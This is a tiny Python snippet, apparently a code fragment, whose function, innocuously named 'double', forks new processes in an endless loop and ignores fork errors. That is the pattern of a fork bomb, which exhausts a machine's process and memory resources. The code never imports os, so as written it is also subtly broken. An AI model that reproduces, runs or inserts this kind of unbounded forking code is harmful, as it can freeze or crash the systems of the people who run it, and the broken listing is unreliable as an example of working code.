"""Processes that make processes."""


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
